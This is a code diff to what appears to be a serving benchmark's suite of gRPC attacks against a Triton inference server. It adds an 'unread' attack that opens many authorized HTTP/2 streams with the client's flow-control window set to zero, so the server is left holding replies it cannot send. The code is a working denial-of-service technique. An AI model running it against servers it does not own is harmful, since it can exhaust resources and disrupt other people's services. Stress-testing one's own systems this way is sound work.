@@ -11,7 +11,7 @@ from tritonclient.grpc import service_pb2 as messages
 
 from benchmarks.serving.attacks import KEY, Attack, Target, again_and_again, connected, first_model, flood
 
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
 _END_STREAM, _END_HEADERS = 1, 4
 _METHOD = "/inference.GRPCInferenceService/ModelInfer"
@@ -35,7 +35,7 @@ def head(path: str = _METHOD) -> bytes:
     )
 
 
-_HELLO = _PREFACE + frame(_SETTINGS, 0, 0)
+_HELLO = PREFACE + frame(_SETTINGS, 0, 0)
 _BEGUN = struct.pack(">BI", 0, 2_000_000)  # of a message that is not compressed, whose length this is
 
 
@@ -149,6 +149,25 @@ async def contents(target: Target) -> None:
     await asyncio.gather(*(sixteen() for _ in range(_CHANNELS)))
 
 
+@again_and_again(16)
+async def unread(target: Target) -> None:
+    """Calls whose replies the client's window of HTTP/2 has no room for. With the token, of many labels."""
+    given = {"name": "text", "datatype": "BYTES", "shape": [_ROWS]}
+    texts = [struct.pack("<I", 2) + b"w1"] * _ROWS
+    asked = messages.ModelInferRequest(
+        model_name=await first_model(target), inputs=[given], raw_input_contents=[b"".join(texts)]
+    ).SerializeToString()
+    message = struct.pack(">BI", 0, len(asked)) + asked
+    with_token = head() + b"\x00\x0dauthorization" + bytes([len(_TOKEN[0][1])]) + _TOKEN[0][1].encode()
+    async with connected(target, target.grpc_port) as (reader, writer):
+        writer.write(PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+        for stream in range(1, 2 * _CALLS, 2):
+            writer.write(frame(_HEADERS, _END_HEADERS, stream, with_token))
+            writer.write(frame(_DATA, _END_STREAM, stream, message))
+        while await asyncio.wait_for(reader.read(4096), max(0.1, target.until - asyncio.get_running_loop().time())):
+            pass
+
+
 GRPC_ATTACKS: dict[str, Attack] = {
     "grpc-half-messages": half_messages,
     "grpc-half-probes": half_probes,
@@ -158,4 +177,5 @@ GRPC_ATTACKS: dict[str, Attack] = {
     "grpc-idle-calls": idle_calls,
     "grpc-churn": churn,
     "grpc-contents": contents,
+    "grpc-unread": unread,
 }
